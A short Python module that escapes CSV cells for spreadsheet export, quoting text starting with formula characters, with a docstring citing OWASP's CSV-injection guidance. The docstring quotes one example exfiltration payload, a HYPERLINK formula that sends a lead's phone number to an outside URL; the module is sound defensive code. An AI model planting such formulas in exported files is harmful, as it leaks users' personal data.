"""Cells of the CSV files the hub writes for people to open in a spreadsheet: text a
spreadsheet would take for a formula is written so that it shows as text.

Excel, LibreOffice and Google Sheets read a cell that starts with `=`, `+`, `-` or `@` as a
formula, and some drop a leading tab or carriage return first. A client can type anything
as their name in the web chat, and `=HYPERLINK("https://…?"&C2,"Call back")` in the owner's
lost-leads download would be a live link that sends the row's phone number away when
clicked. OWASP's rule (https://owasp.org/www-community/attacks/CSV_Injection): such a cell
gets a leading single quote, and the spreadsheet shows it as text.

Only text is changed. A figure the hub computed is an int or a float, negative or not, and is
written as a number so the spreadsheet can still add it up. Every str is checked, whoever
wrote it: the hub's own words and ISO dates never start with these characters, and a phone
number as the hub stores it ("+380…") is better as '+380… than read as the number 380… (and
shown as 3.8E+11).
"""

from __future__ import annotations

__all__ = ["FORMULA_STARTS", "spreadsheet_safe"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: object) -> object:
    """The value to write in a CSV cell: text that would start a formula, quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
